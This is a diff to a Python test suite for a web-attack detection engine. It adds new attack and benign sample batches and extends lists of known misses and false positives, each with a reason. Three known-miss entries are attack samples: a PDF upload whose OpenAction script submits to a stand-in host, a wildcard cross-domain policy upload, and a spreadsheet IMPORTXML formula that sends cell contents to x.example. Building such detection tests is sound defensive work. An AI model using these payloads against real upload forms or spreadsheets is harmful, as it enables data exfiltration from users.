@@ -30,12 +30,14 @@ from tests.detect.blind_attacks_y import BLIND_ATTACKS_Y
 from tests.detect.blind_attacks_za import BLIND_ATTACKS_ZA
 from tests.detect.blind_attacks_zb import BLIND_ATTACKS_ZB
 from tests.detect.blind_attacks_zc import BLIND_ATTACKS_ZC
+from tests.detect.blind_attacks_zd import BLIND_ATTACKS_ZD
 from tests.detect.blind_benign import BLIND_BENIGN
 from tests.detect.blind_benign_10 import BLIND_BENIGN_10
 from tests.detect.blind_benign_11 import BLIND_BENIGN_11
 from tests.detect.blind_benign_12 import BLIND_BENIGN_12
 from tests.detect.blind_benign_13 import BLIND_BENIGN_13
 from tests.detect.blind_benign_14 import BLIND_BENIGN_14
+from tests.detect.blind_benign_15 import BLIND_BENIGN_15
 from tests.detect.blind_benign_2 import BLIND_BENIGN_2
 from tests.detect.blind_benign_3 import BLIND_BENIGN_3
 from tests.detect.blind_benign_4 import BLIND_BENIGN_4
@@ -62,7 +64,8 @@ from tests.detect.wild_benign import build_request
 # 780, 6 of 280; batches za, zb and benign_13 (stop 35: injections in a browser's busy carriers, published WAF
 # bypasses, busy browser traffic and science portals; engine 32db739) 230 of 233, 326 of 327, 15 of 356; batches zc
 # and benign_14 (stop 35: API payloads and text in many languages; engine ed1018c, after fix round 14) 289 of 292, 8
-# of 383.
+# of 383; batches zd and benign_15 (stop 35: uploads, CMS and admin back-ends, templates; engine 257a03a, after fix
+# round 15) 267 of 275, 12 of 329.
 # What is left after the fixes is listed here, each with the reason it stays;
 # the tests fail when anything else changes in either direction.
 KNOWN_MISS: dict[str, str] = {
@@ -360,13 +363,14 @@ def _attacks() -> list[tuple[str, str, str, str]]:
                                                   *BLIND_ATTACKS_R, *BLIND_ATTACKS_S, *BLIND_ATTACKS_T,
                                                   *BLIND_ATTACKS_U, *BLIND_ATTACKS_V, *BLIND_ATTACKS_W,
                                                   *BLIND_ATTACKS_X, *BLIND_ATTACKS_Y, *BLIND_ATTACKS_ZA,
-                                                  *BLIND_ATTACKS_ZB, *BLIND_ATTACKS_ZC))]
+                                                  *BLIND_ATTACKS_ZB, *BLIND_ATTACKS_ZC, *BLIND_ATTACKS_ZD))]
 
 
 def _benign() -> list[tuple[str, str, str]]:
     return [*BLIND_BENIGN, *BLIND_BENIGN_2, *BLIND_BENIGN_3, *BLIND_BENIGN_4, *BLIND_BENIGN_5, *BLIND_BENIGN_6,
             *BLIND_BENIGN_7, *BLIND_BENIGN_8, *BLIND_BENIGN_9, *BLIND_BENIGN_10, *BLIND_BENIGN_11,
-            *BLIND_BENIGN_12, *BLIND_BENIGN_13, *BLIND_BENIGN_14]
+            *BLIND_BENIGN_12, *BLIND_BENIGN_13, *BLIND_BENIGN_14,
+            *BLIND_BENIGN_15]
 
 
 def _label(carrier: str, key: str, value: str) -> str:
@@ -374,10 +378,10 @@ def _label(carrier: str, key: str, value: str) -> str:
 
 
 def test_batches_and_known_lists():
-    # independent writers converge on the classics: 264 attack requests and 70 benign values (the OAuth device-code
+    # independent writers converge on the classics: 269 attack requests and 72 benign values (the OAuth device-code
     # grant type, common browser headers, `Coeur d'Alene`) are in more than one batch, kept as written
-    assert len(_attacks()) == 6119 and len({tuple(a[1:]) for a in _attacks()}) == 5855
-    assert len(_benign()) == 4230 and len({tuple(b) for b in _benign()}) == 4160
+    assert len(_attacks()) == 6394 and len({tuple(a[1:]) for a in _attacks()}) == 6125
+    assert len(_benign()) == 4559 and len({tuple(b) for b in _benign()}) == 4487
     assert set(KNOWN_MISS) <= {_label(*a[1:]) for a in _attacks()}
     assert set(KNOWN_FP) <= {_label(*b) for b in _benign()}
 
@@ -439,4 +443,38 @@ KNOWN_FP.update({
     'json:kodi:{"jsonrpc":"2.0","method":"Player.Open","params":{"item":{"file":"smb://nas/media/Movies/The General (1926)/The.General.1926.mkv"},"options":{"resume":true}},"id":"libPlayer"}':
         "an SMB share in a `file` member (Kodi's JSON-RPC): a remote scheme where a file name goes is how inclusion "
         "and NTLM-leak attacks look",
+})
+
+# Round 11 (stop 35): what is left of batches zd and benign_15, with reasons.
+KNOWN_MISS.update({
+    'raw::POST /support/tickets/attach HTTP/1.1\r\nHost: app.example\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36\r\nAccept: application/json, text/javascript, */*; q=0.01\r\nOrigin: https://app.example\r\nReferer: https://app.example/admin/\r\nContent-Type: multipart/form-data; boundary=----WebKitFormBoundaryZd4qK9mXr2TfLw8B\r\nContent-Length: 400\r\n\r\n------WebKitFormBoundaryZd4qK9mXr2TfLw8B\r\nContent-Disposition: form-data; name="file"; filename="receipt.pdf"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>endobj\n3 0 obj<</S/JavaScript/JS(app.alert(1); this.submitForm({cURL:"https://x.example/c",cSubmitAs:"HTML"}))>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n\r\n------WebKitFormBoundaryZd4qK9mXr2TfLw8B--\r\n':
+        "a PDF whose OpenAction runs JavaScript: uploads of binary types are judged by name and headers only; a PDF's scripts are its reader's matter",
+    'raw::POST /cms/assets/upload HTTP/1.1\r\nHost: app.example\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36\r\nAccept: application/json, text/javascript, */*; q=0.01\r\nOrigin: https://app.example\r\nReferer: https://app.example/admin/\r\nContent-Type: multipart/form-data; boundary=----WebKitFormBoundaryZd4qK9mXr2TfLw8B\r\nContent-Length: 354\r\n\r\n------WebKitFormBoundaryZd4qK9mXr2TfLw8B\r\nContent-Disposition: form-data; name="file"; filename="crossdomain.xml"\r\nContent-Type: text/xml\r\n\r\n<?xml version="1.0"?><cross-domain-policy><allow-access-from domain="*" secure="false"/><allow-http-request-headers-from domain="*" headers="*"/></cross-domain-policy>\r\n------WebKitFormBoundaryZd4qK9mXr2TfLw8B--\r\n':
+        'a Flash/Silverlight cross-domain policy uploaded as a file: its name is no script, and both plug-ins are gone from browsers',
+    'form:address:=IMPORTXML(CONCAT("http://x.example/?",A2),"//a")':
+        'formula exfiltration through one cell is how people build lookups (docs/detection.md); only ranges or several cells count',
+})
+KNOWN_FP.update({
+    'form:wpcf7-mail[body]:From: [your-name] <[your-email]>\nSubject: [your-subject]\n\nMessage Body:\n[your-message]\n\n-- \nThis e-mail was sent from a contact form on [_site_title] ([_site_url])':
+        "Contact Form 7's mail template: `From:` and `Subject:` lines in a field are what header injection looks like; the plugin's settings page needs a rule",
+    'form:content:<p>{{widget type="Magento\\CatalogWidget\\Block\\Product\\ProductsList" show_pager="0" products_count="8" template="Magento_CatalogWidget::product/widget/content/grid.phtml" conditions_encoded="^[`1`:^[`type`:`Magento||CatalogWidget||Model||Rule||Condition||Combine`,`aggregator`:`all`,`value`:`1`,`new_child`:``^]^]"}}</p>\n<p><img src="{{media url="wysiwyg/banners/summer-sale.jpg"}}" alt="Summer sale banner"></p>\n<p><a href="{{store url="customer/account/create"}}">Create an account</a></p>':
+        'Magento\'s `{{media url="…"}}` inside `src="…"`: the inner quotes end the attribute early, markup an injection leaves too',
+    'json:html_body:<!DOCTYPE html>\n<html lang="en" xmlns:v="urn:schemas-microsoft-com:vml">\n<head>\n<meta charset="utf-8">\n<meta name="viewport" content="width=device-width, initial-scale=1">\n<meta name="x-apple-disable-message-reformatting">\n<title>Your receipt</title>\n<!--[if mso]><xml><o:OfficeDocumentSettings><o:PixelsPerInch>96</o:PixelsPerInch></o:OfficeDocumentSettings></xml><![endif]-->\n</head>\n<body style="margin:0;padding:0;background-color:#f4f4f5;">\n<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" style="background-color:#f4f4f5;">\n<tr><td align="center" style="padding:24px 12px;">\n<table role="presentation" width="600" cellpadding="0" cellspacing="0" border="0" style="max-width:600px;background:#ffffff;border-radius:8px;">\n<tr><td style="padding:32px;font-family:Arial,Helvetica,sans-serif;font-size:16px;line-height:24px;color:#111827;">\n<h1 style="margin:0 0 16px;font-size:22px;">Thanks for your order, {{first_name}}!</h1>\n<p style="margin:0 0 24px;">Order <strong>#{{order_number}}</strong> was placed on {{order_date}}.</p>\n<a href="{{order_url}}" style="display:inline-block;background:#2563eb;color:#ffffff;text-decoration:none;padding:12px 20px;border-radius:6px;">View order</a>\n</td></tr>\n</table>\n</td></tr>\n</table>\n</body>\n</html>':
+        'a whole HTML e-mail in a JSON field: markup with attributes by design; a template API needs a rule',
+    'json:readme:# acme-widgets\n\nA tiny library for rendering dashboard widgets.\n\n[![npm](https://img.shields.io/npm/v/acme-widgets.svg)](https://www.npmjs.com/package/acme-widgets)\n\n## Installation\n\n```bash\nnpm install acme-widgets\n```\n\n## Configuration\n\n```yaml\nwidgets:\n  theme: dark\n  refresh_interval: 30\n  locale: en-GB\n```\n\n## License\n\nMIT © 2024 Acme Ltd.':
+        'a README with a fenced `npm install`: code by design (see the forum posts above)',
+    'form:body:### Environment\n\nCopy `.env.example` to `.env` and adjust:\n\n```env\nAPP_ENV=local\nAPP_URL=http://localhost:8000\nMAIL_FROM_ADDRESS=hello@example.com\nCACHE_DRIVER=redis\n```':
+        'a fenced `.env` block: code by design',
+    'form:wiki:h1. Release plan\n\n||Version||Date||Owner||\n|2.4|10 May|Ana|\n|2.5|14 June|Ben|\n\n{info}Code freeze is two days before each release.{info}\n\n{code:language=bash}\n./gradlew assembleRelease\n{code}':
+        'a Confluence code macro with a build command: code by design',
+    'form:body:= Release Guide\n:toc:\n:icons: font\n\n== Building\n\n[source,shell]\n----\nmvn -B package\n----\n\nNOTE: Artifacts land in `target/`.':
+        'an AsciiDoc shell block: code by design',
+    'form:content:<meta charset="utf-8"><b style="font-weight:normal;" id="docs-internal-guid-3a1f2b7c-7fff-c1d2-e3f4-5a6b7c8d9e0f"><p dir="ltr" style="line-height:1.38;margin-top:0pt;margin-bottom:0pt;"><span style="font-size:11pt;font-family:Arial,sans-serif;color:#000000;background-color:transparent;font-weight:400;font-style:normal;vertical-align:baseline;white-space:pre-wrap;">Draft press release – embargoed until 9am Tuesday.</span></p></b>':
+        'Google Docs pastes begin with `<meta charset="utf-8">`; an injected meta charset re-decodes the page (CRS 941260 counts it), so it stays',
+    'raw::POST /api/v1/gradebook/import HTTP/1.1\r\nHost: school.example.org\r\nConnection: keep-alive\r\nContent-Length: 542\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36\r\nContent-Type: multipart/form-data; boundary=----WebKitFormBoundaryq7Yv2kLm9XcT4pRz\r\nAccept: */*\r\nOrigin: https://school.example.org\r\nAccept-Encoding: gzip, deflate, br\r\nAccept-Language: en-GB,en;q=0.9\r\n\r\n------WebKitFormBoundaryq7Yv2kLm9XcT4pRz\r\nContent-Disposition: form-data; name="file"; filename="grades_year10_maths.csv"\r\nContent-Type: text/csv\r\n\r\nStudent,Test 1,Test 2,Test 3,Average,Result\r\n"Okafor, Chidi",78,84,91,=AVERAGE(B2:D2),"=IF(E2>=50,""Pass"",""Resit"")"\r\n"Nowak, Zofia",65,59,72,=AVERAGE(B3:D3),"=IF(E3>=50,""Pass"",""Resit"")"\r\n"Rossi, Luca",44,52,49,=AVERAGE(B4:D4),"=IF(E4>=50,""Pass"",""Resit"")"\r\nClass average,=AVERAGE(B2:B4),=AVERAGE(C2:C4),=AVERAGE(D2:D4),=AVERAGE(E2:E4),\r\n\r\n------WebKitFormBoundaryq7Yv2kLm9XcT4pRz--\r\n':
+        'a CSV upload whose cells are formulas (`=IF(E2>=50,""Pass"",…)`): SQL-shaped calls in a text upload; a gradebook import needs a rule',
+    'raw::POST /email/templates/upload HTTP/1.1\r\nHost: mail.example.com\r\nConnection: keep-alive\r\nContent-Length: 1131\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36\r\nContent-Type: multipart/form-data; boundary=----WebKitFormBoundaryq7Yv2kLm9XcT4pRz\r\nAccept: */*\r\nOrigin: https://mail.example.com\r\nAccept-Encoding: gzip, deflate, br\r\nAccept-Language: en-GB,en;q=0.9\r\n\r\n------WebKitFormBoundaryq7Yv2kLm9XcT4pRz\r\nContent-Disposition: form-data; name="template"; filename="order-confirmation.html"\r\nContent-Type: text/html\r\n\r\n<!DOCTYPE html>\r\n<html lang="en">\r\n<head>\r\n<meta charset="utf-8">\r\n<meta name="viewport" content="width=device-width, initial-scale=1">\r\n<title>Order confirmation</title>\r\n<style>\r\n  @media only screen and (max-width: 600px) { .container { width: 100% !important; } }\r\n</style>\r\n</head>\r\n<body style="margin:0;background:#f6f6f6;">\r\n<table role="presentation" class="container" width="600" align="center" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Arial,sans-serif;">\r\n  <tr><td style="padding:24px;font-size:20px;font-weight:bold;">Thanks, {{ customer.first_name }}!</td></tr>\r\n  <tr><td style="padding:0 24px 24px;font-size:15px;color:#444;">We received order {{ order.name }} and will e-mail you when it ships.</td></tr>\r\n  <tr><td style="padding:16px 24px;font-size:12px;color:#999;border-top:1px solid #eee;">Clayworks Studio · 4 Mill Lane · Bristol BS1 4QA</td></tr>\r\n</table>\r\n</body>\r\n</html>\r\n\r\n------WebKitFormBoundaryq7Yv2kLm9XcT4pRz--\r\n':
+        'an HTML e-mail template uploaded as a file, CRLF line ends and a full document: markup and line breaks by design',
+    'raw::POST /docs/import HTTP/1.1\r\nHost: wiki.example.com\r\nConnection: keep-alive\r\nContent-Length: 495\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36\r\nContent-Type: multipart/form-data; boundary=----WebKitFormBoundaryq7Yv2kLm9XcT4pRz\r\nAccept: */*\r\nOrigin: https://wiki.example.com\r\nAccept-Encoding: gzip, deflate, br\r\nAccept-Language: en-GB,en;q=0.9\r\n\r\n------WebKitFormBoundaryq7Yv2kLm9XcT4pRz\r\nContent-Disposition: form-data; name="file"; filename="CONTRIBUTING.md"\r\nContent-Type: text/markdown\r\n\r\n# Contributing\r\n\r\nThanks for helping out! 🎉\r\n\r\n1. Fork the repo and create a branch: `git checkout -b fix/typo-in-readme`\r\n2. Run the tests:\r\n\r\n   ```bash\r\n   npm ci\r\n   npm test\r\n   ```\r\n\r\n3. Open a pull request and fill in the template.\r\n\r\nPlease follow the [code of conduct](CODE_OF_CONDUCT.md).\r\n\r\n------WebKitFormBoundaryq7Yv2kLm9XcT4pRz--\r\n':
+        'a Markdown file with fenced shell commands: code by design',
 })
